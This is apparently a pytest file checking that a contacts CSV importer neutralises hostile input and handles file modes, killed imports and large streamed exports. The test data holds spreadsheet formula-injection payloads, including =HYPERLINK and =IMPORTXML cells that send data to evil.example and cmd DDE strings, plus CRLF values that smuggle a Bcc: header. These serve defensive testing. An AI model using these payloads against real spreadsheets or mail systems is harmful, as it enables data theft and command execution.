"""`sphere contacts import` against hostile and huge input: formula cells, a display name
that smuggles a Bcc:, a 0644 audience file, a killed import, an export read a row at a
time (issue 13, points 4, 5, 6 and 9)."""
from __future__ import annotations

import csv
import email
import os
import signal
import stat
import subprocess
import sys
import time
from collections.abc import Iterator
from email import policy
from pathlib import Path

import pytest

from pipeline.contacts import importer
from pipeline.contacts.audience import load_audience
from pipeline.contacts.csvsafe import AtomicCsv, guard, remove_stale_temps, unguard
from pipeline.contacts.exports import angle_address, read_csv_lines, split_addresses
from pipeline.contacts.importer import import_contacts
from pipeline.rendering.mime import address
from tests.conftest import REPO

FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1)',
            '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
            "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "\t=1+2", "\r=1+2")


def _write(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(rows)
    return path


def _cells(path: Path) -> list[list[str]]:
    """Every cell of a CSV as a spreadsheet would see it (no unguarding)."""
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.reader(f))


def _runs_as_formula(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


# ---- 4. formula injection ---------------------------------------------------------------
@pytest.mark.parametrize("value", [
    *FORMULAS, "'=already quoted", "''+two", "-", "+", "-12.50", "+1 555 0100", "'", "",
    "plain", "José", "=", "@", "\n=1", "'-5", "a=b",
])
def test_guard_round_trip_is_lossless(value: str) -> None:
    written = guard(value)
    assert unguard(written) == value
    assert not _runs_as_formula(written) or value in ("-", "+", "-12.50")
    assert unguard(value) == value or value.startswith("'")


def test_formula_cells_are_written_quoted_and_read_back_unchanged(project: Path, cli,
                                                                  tmp_path: Path) -> None:
    # `note` (Sphere's own column, the one emailed): a CRM's "Notes" would go to the
    # private_note column, which a Contact does not carry (issue 12.3).
    rows = [["Email", "First Name", "Last Name", "Neighborhood", "Tags", "note"]]
    for i, formula in enumerate(FORMULAS):
        rows.append([f"p{i}@example.com", formula, formula, formula, formula, formula])
    rows.append(["=cmd@example.com", "Minus", "-", "Maple Heights", "golf", "-"])
    result = cli("contacts", "import", str(_write(tmp_path / "x.csv", rows)), "--audience",
                 "sheet", project=project)
    assert result.exit_code == 0, result.output
    target = project / "audiences" / "sheet.csv"
    cells = [c for row in _cells(target) for c in row]
    dangerous = [c for c in cells if _runs_as_formula(c) and c != "-"]
    assert dangerous == []
    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1)" in cells
    assert "'+cmd|' /C calc'!A0" in cells and "'=cmd@example.com" in cells
    assert "-" in cells  # a lone minus is no formula: written as it is

    # Sphere reads back exactly what was imported (names and notes are stripped, as
    # always: "\r=1+2" was imported as "=1+2").
    loaded = {c.email: c for c in load_audience(target, project).contacts}
    for i, formula in enumerate(FORMULAS):
        c = loaded[f"p{i}@example.com"]
        assert (c.first_name, c.last_name, c.note) == (formula.strip(),) * 3
        assert c.neighbourhood == formula.strip()
    assert loaded["=cmd@example.com"].last_name == "-"

    # A second import merges against the values, not the quoted cells: nothing changes
    # and no cell gets a second apostrophe.
    before = target.read_bytes()
    again = cli("contacts", "import", str(tmp_path / "x.csv"), "--audience", "sheet",
                project=project)
    assert again.output.splitlines()[0] == "imported 0, updated 0, skipped 0"
    assert target.read_bytes() == before


def test_columns_of_your_own_are_quoted_too(project: Path, cli, tmp_path: Path) -> None:
    target = project / "audiences" / "own.csv"
    _write(target, [["email", "first_name", "phone", "=HYPERLINK(\"x\")"],
                    ["a@example.com", "Ann", "+1 555 0100", "=1+2"]])
    result = cli("contacts", "import",
                 str(_write(tmp_path / "x.csv", [["Email", "Name"], ["b@example.com", "Bo"]])),
                 "--audience", "own", project=project)
    assert result.exit_code == 0, result.output
    header, ann, _ = _cells(target)
    assert header[-2:] == ["phone", "'=hyperlink(\"x\")"]  # headers are lower-cased
    assert ann[-2:] == ["'+1 555 0100", "'=1+2"]
    # The reader strips the quotes again: the unknown column has its real name.
    loaded = load_audience(target, project)
    assert [c.email for c in loaded.contacts] == ["a@example.com", "b@example.com"]
    assert any("'=hyperlink(\"x\")'" in p.problem for p in loaded.problems)


# ---- 6. recipient switching ------------------------------------------------------------
def test_the_address_is_the_one_in_angle_brackets(project: Path, cli, tmp_path: Path) -> None:
    rows = [["Email", "First Name", "Last Name"],
            ['"x\r\nBcc: z@evil.example" <trudy@example.com>', "Trudy", "T"],
            ['"a, b; c" <ann@example.com>, other@example.com', "Ann", "A"],
            ['Bob <bob@example.com> <z@evil.example>', "Bob", "B"],
            ['"unclosed <carol@example.com>', "Carol", "C"],
            ["dave@example.com>", "Dave", "D"],
            ["eve@example.com", "Eve\r\nBcc: z@evil.example", "E"]]
    result = cli("contacts", "import", str(_write(tmp_path / "x.csv", rows)), "--audience",
                 "sphere", project=project)
    assert result.exit_code == 0, result.output
    for row in (4, 5, 6):
        assert f"skipped: row {row} " in result.output and "row refused" in result.output
    text = (project / "audiences" / "sphere.csv").read_text(encoding="utf-8")
    assert "z@evil.example" not in text.replace("Eve Bcc: z@evil.example", "")
    got = {r["email"]: r for r in csv.DictReader(text.splitlines())}
    assert "trudy@example.com" in got and "ann@example.com" in got
    assert got["eve@example.com"]["first_name"] == "Eve Bcc: z@evil.example"

    sent = cli("send", "monthly-sphere", project=project)
    assert sent.exit_code == 0, sent.output
    recipients = []
    for path in (project / "var" / "outbox").glob("*.eml"):
        msg = email.message_from_bytes(path.read_bytes(), policy=policy.default)
        assert msg["Bcc"] is None and msg["Cc"] is None
        recipients += [a.addr_spec for a in msg["To"].addresses]
    assert "trudy@example.com" in recipients and "eve@example.com" in recipients
    assert "z@evil.example" not in recipients
    assert len(recipients) == len(set(recipients))


def test_no_line_break_from_a_contact_file_reaches_a_header(project: Path) -> None:
    # Hand-written audience files are read the same way: a name is one line.
    target = project / "audiences" / "hand.csv"
    _write(target, [["email", "first_name", "last_name", "neighbourhood", "interests"],
                    ["eve@example.com", "Eve\r\nBcc: z@evil.example", "Lee\x00\u2028X",
                     "Maple\nHeights", "golf\r\nwine;dogs"]])
    (eve,) = load_audience(target, project).contacts
    assert (eve.first_name, eve.last_name, eve.neighbourhood) == (
        "Eve Bcc: z@evil.example", "Lee X", "Maple Heights")
    assert eve.interests == ("golf wine", "dogs")
    assert "\n" not in address(eve.name, eve.email)
    assert "\r" not in address("A\r\nBcc: z@evil.example", "a@example.com")


def test_address_cells_split_outside_quotes_and_brackets() -> None:
    assert split_addresses('"Lee, Ann" <ann@x.com>; b@x.com ::: c@x.com') == [
        '"Lee, Ann" <ann@x.com>', "b@x.com", "c@x.com"]
    assert angle_address('"x\r\nBcc: z@evil.example" <trudy@example.com>') == \
        "trudy@example.com"
    assert angle_address("Ann <a@x.com> <b@x.com>") is None
    assert angle_address("Ann <a@x.com> trailing") is None


# ---- 9. file modes and temp files ------------------------------------------------------
@pytest.mark.parametrize("mode", [0o644, 0o640, 0o600])
def test_an_import_keeps_the_audience_file_mode(project: Path, cli, tmp_path: Path,
                                               mode: int) -> None:
    target = project / "audiences" / "sphere.csv"
    target.chmod(mode)
    result = cli("contacts", "import",
                 str(_write(tmp_path / "x.csv", [["Email"], ["new@example.com"]])),
                 "--audience", "sphere", project=project)
    assert result.output.startswith("imported 1")
    assert stat.S_IMODE(target.stat().st_mode) == mode


def test_a_new_audience_file_gets_the_umask_mode(project: Path, cli, tmp_path: Path) -> None:
    old = os.umask(0o027)
    try:
        cli("contacts", "import", str(_write(tmp_path / "x.csv", [["Email"], ["n@example.com"]])),
            "--audience", "fresh", project=project)
    finally:
        os.umask(old)
    assert stat.S_IMODE((project / "audiences" / "fresh.csv").stat().st_mode) == 0o640


def test_the_temp_file_is_private_while_it_exists(project: Path, tmp_path: Path) -> None:
    seen: list[int] = []

    def progress(stage: str, done: int, total: int) -> None:
        if stage == "write":
            seen.extend(stat.S_IMODE(p.stat().st_mode)
                        for p in (project / "audiences").glob(".sphere.csv.*.tmp"))

    (project / "audiences" / "sphere.csv").chmod(0o644)
    import_contacts(_write(tmp_path / "x.csv", [["Email"], ["n@example.com"]]),
                    project / "audiences", "sphere", progress=progress)
    assert seen and set(seen) == {0o600}
    assert list((project / "audiences").glob(".*.tmp")) == []


def _dead_pid() -> int:
    child = subprocess.Popen([sys.executable, "-c", "pass"])
    child.wait()
    return child.pid


def test_stale_temp_files_are_removed_live_ones_kept(tmp_path: Path) -> None:
    folder = tmp_path / "audiences"
    folder.mkdir()
    dead = folder / f".sphere.csv.{_dead_pid()}.abc123.tmp"
    legacy = folder / ".sphere.csv.k2j3h4g5.tmp"  # mkstemp's name before pids were in it
    sleeper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(30)"])
    try:
        live = folder / f".sphere.csv.{sleeper.pid}.xyz.tmp"
        other = folder / ".notes.txt.tmp"  # not ours
        for p in (dead, legacy, live, other):
            p.write_text("email\nsecret@example.com\n")
        assert sorted(remove_stale_temps(folder)) == sorted([dead, legacy])
        assert live.exists() and other.exists() and not dead.exists()
    finally:
        sleeper.kill()
        sleeper.wait()


def test_a_killed_import_leaves_nothing_after_the_next_run(project: Path, cli,
                                                           tmp_path: Path) -> None:
    export = _write(tmp_path / "big.csv", [["Email", "First Name"]] +
                    [[f"c{i}@example.com", f"N{i}"] for i in range(30_000)])
    audiences = project / "audiences"
    child = subprocess.Popen([sys.executable, "-m", "pipeline", "contacts", "import",
                              str(export), "--audience", "sphere", "--project", str(project)],
                             cwd=REPO, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        # Kill it while it writes: as soon as its temp file appears (polling, no timing).
        while child.poll() is None and not list(audiences.glob(".sphere.csv.*.tmp")):
            time.sleep(0.002)
        child.send_signal(signal.SIGKILL)
    finally:
        child.wait()
    left = list(audiences.glob(".*.tmp"))
    if not left:
        pytest.skip("the import finished before it could be killed")
    assert {stat.S_IMODE(p.stat().st_mode) for p in left} == {0o600}
    result = cli("contacts", "import",
                 str(_write(tmp_path / "x.csv", [["Email"], ["n@example.com"]])),
                 "--audience", "sphere", project=project)
    assert result.exit_code == 0, result.output
    assert "left by an import that was stopped" in result.output
    assert list(audiences.glob(".*.tmp")) == []


def test_atomic_csv_discards_on_error(tmp_path: Path) -> None:
    target = tmp_path / "a.csv"
    target.write_text("email\nold@example.com\n")
    with pytest.raises(RuntimeError), AtomicCsv(target, ["email"]) as out:
        out.write({"email": "new@example.com"})
        raise RuntimeError("disk full")
    assert target.read_text() == "email\nold@example.com\n"
    assert list(tmp_path.iterdir()) == [target]


# ---- 5. streaming ----------------------------------------------------------------------
class CountingLines:
    """The lines of a CSV, counting how many the reader has pulled."""

    def __init__(self, rows: int) -> None:
        self.rows, self.pulled = rows, 0

    def __iter__(self) -> Iterator[str]:
        yield "Email,First Name,Tags\n"
        for i in range(self.rows):
            self.pulled += 1
            yield f"c{i}@example.com,N{i},golf\n"


def test_the_export_is_read_a_row_at_a_time() -> None:
    lines = CountingLines(30_000)
    records, columns = read_csv_lines(lines, "x.csv", {})
    assert dict(columns)["Email"] == "email"
    # Only the sample is read ahead: 64 KB for the delimiter, 50 rows for the columns.
    ahead = lines.pulled
    assert 0 < ahead < 3_000
    first = next(records)
    assert first.emails == ("c0@example.com",) and lines.pulled == ahead
    for _ in range(ahead + 10):
        next(records)
    assert lines.pulled == ahead + 11  # one line per record from here on
    assert sum(1 for _ in records) == 30_000 - ahead - 11


def test_an_import_reports_progress_as_it_reads(project: Path, tmp_path: Path) -> None:
    export = _write(tmp_path / "x.csv", [["Email", "First Name"]] +
                    [[f"c{i}@example.com", f"N{i}"] for i in range(12_000)])
    reports: list[tuple[str, int, int]] = []
    report = import_contacts(export, project / "audiences", "sphere",
                             progress=lambda *r: reports.append(r))
    assert report.imported == 12_000
    size = export.stat().st_size
    read = [done for stage, done, total in reports if stage == "read"]
    # The file position moves with the rows: the export was not read in one go.
    assert len(read) >= 6 and read == sorted(read) and read[0] < size // 3
    assert read[-1] == size
    written = [done for stage, done, total in reports if stage == "write"]
    assert written[-1] == 12_000


def test_report_lines_are_capped_and_counted(project: Path, cli, tmp_path: Path,
                                             monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(importer, "LINES_KEPT", 5)
    rows = [["Email"]] + [[f"n{i}@example.com"] for i in range(20)] + [["bad"]] * 8
    result = cli("contacts", "import", str(_write(tmp_path / "x.csv", rows)), "--audience",
                 "capped", project=project)
    assert result.output.splitlines()[0].startswith("imported 20, updated 0, skipped 8: ")
    assert "... and 3 more skipped rows not listed" in result.output
    assert "... and 15 more notes not listed" in result.output  # 20 "no name" notes
    assert result.output.count("  note: ") == 5


def test_a_terminal_shows_a_progress_bar(project: Path, cli, tmp_path: Path,
                                         monkeypatch: pytest.MonkeyPatch) -> None:
    import io

    from rich.console import Console

    import pipeline.cli.contacts
    screen = io.StringIO()
    monkeypatch.setattr(pipeline.cli.contacts, "err",
                        Console(file=screen, force_terminal=True, width=100))
    export = _write(tmp_path / "x.csv", [["Email"]] + [[f"c{i}@example.com"] for i in range(50)])
    result = cli("contacts", "import", str(export), "--audience", "bar", project=project)
    assert result.exit_code == 0, result.output
    assert "Reading x.csv" in screen.getvalue() and "Writing the audience" in screen.getvalue()
    assert "50/50 rows" in screen.getvalue()
    assert "Reading" not in result.stdout  # the bar goes to the terminal, not the output
    screen.truncate(0)
    screen.seek(0)
    cli("contacts", "import", str(export), "--audience", "bar", "--quiet", project=project)
    assert screen.getvalue() == ""


def test_a_line_of_a_million_characters_is_refused_with_its_line(project: Path, cli,
                                                                  tmp_path: Path) -> None:
    export = tmp_path / "x.csv"
    export.write_text("Email,Notes\na@example.com,hi\nb@example.com," + "x" * 1_100_000 + "\n")
    result = cli("contacts", "import", str(export), "--audience", "long", project=project)
    assert result.exit_code == 1
    assert f"{export}:3: a line longer than 1,048,576 characters" in result.output
    assert not (project / "audiences" / "long.csv").exists()
